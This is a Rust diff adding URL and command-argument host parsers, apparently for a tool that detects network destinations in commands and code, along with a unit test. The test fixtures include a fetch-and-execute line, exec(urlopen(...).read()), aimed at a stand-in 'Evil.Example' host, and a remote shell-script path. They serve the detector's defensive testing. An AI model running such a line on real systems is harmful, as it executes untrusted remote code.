@@ -85,6 +85,59 @@ pub fn host_of(url: &str) -> Option<String> {
     Some(host)
 }
 
+/// The host of a URL with a scheme (`https://user@API.example.com:8443/v1`), as [`host_of`]
+/// gives it; `None` without `://` or a well-formed host (`https://${HOST}/`). The URL may sit
+/// in text or code: it ends at the first character no URL authority holds (a quote, `,`,
+/// `;`, a bracket, whitespace).
+pub fn url_host(url: &str) -> Option<String> {
+    let (_, rest) = url.split_once("://")?;
+    let end = rest
+        .find(|c: char| {
+            c.is_whitespace()
+                || matches!(
+                    c,
+                    '"' | '\'' | '`' | '\\' | ',' | ';' | '(' | ')' | '<' | '>' | '{' | '}' | '|'
+                )
+        })
+        .unwrap_or(rest.len());
+    host_of(&rest[..end])
+}
+
+/// The hosts of every URL in a text or a piece of code, each once, in order.
+pub fn hosts_in(text: &str) -> Vec<String> {
+    let mut hosts: Vec<String> = Vec::new();
+    let mut from = 0;
+    while let Some(i) = text[from..].find("://") {
+        let at = from + i;
+        if let Some(h) = url_host(&text[at..]) {
+            if !hosts.contains(&h) {
+                hosts.push(h);
+            }
+        }
+        from = at + 3;
+    }
+    hosts
+}
+
+/// The host of a command argument that is a URL or an `scp`-style `user@host:path` (the
+/// host must hold a dot, so `C:path` or `key:value` is none).
+pub fn arg_host(arg: &str) -> Option<String> {
+    let arg = arg.trim_matches(|c| c == '"' || c == '\'');
+    if arg.contains("://") {
+        return url_host(arg);
+    }
+    if arg.starts_with('-') || arg.starts_with('/') || arg.starts_with('.') {
+        return None;
+    }
+    let (head, _) = arg.split_once(':')?;
+    let host = head.rsplit('@').next()?;
+    let looks_like_host = host.contains('.')
+        && host
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-');
+    looks_like_host.then(|| host.to_ascii_lowercase())
+}
+
 /// A bare argument that names a host: `example.com/path`, `10.0.0.1:8080`.
 fn looks_like_url(a: &str) -> bool {
     if a.contains("://") {
@@ -668,5 +721,38 @@ mod tests {
         assert!(looks_like_url("evil.example.com/x.sh"));
         assert!(!looks_like_url("notes.txt"));
         assert!(!looks_like_url("./a.b"));
+    }
+
+    /// One host parser serves URLs, command arguments and URLs found in text or code. Where
+    /// the extractors it replaced differed, it takes the stricter reading: a host is
+    /// lowercased, loses user info and port, and a `$VAR` in its place is no host.
+    #[test]
+    fn one_host_parser_for_urls_arguments_and_text() {
+        assert_eq!(
+            url_host("https://u:p@Evil.example:8443/x?y").as_deref(),
+            Some("evil.example")
+        );
+        assert_eq!(url_host("evil.example/x"), None, "a URL has a scheme");
+        // Not `${host}`: an unknown destination is reported as such by the callers.
+        assert_eq!(url_host("https://${HOST}/x"), None);
+        // A URL inside text or code ends where the authority does.
+        assert_eq!(
+            url_host("https://api.example.com, then").as_deref(),
+            Some("api.example.com")
+        );
+        assert_eq!(
+            arg_host("git@github.com:o/r.git").as_deref(),
+            Some("github.com")
+        );
+        assert_eq!(
+            arg_host("'https://X.example/p'").as_deref(),
+            Some("x.example")
+        );
+        assert_eq!(arg_host("-H"), None);
+        // Code: the host, not the user name before `@`, and in lower case.
+        assert_eq!(
+            hosts_in("exec(urlopen('https://me:pw@Evil.Example/x').read()); 'http://evil.example'"),
+            ["evil.example"]
+        );
     }
 }
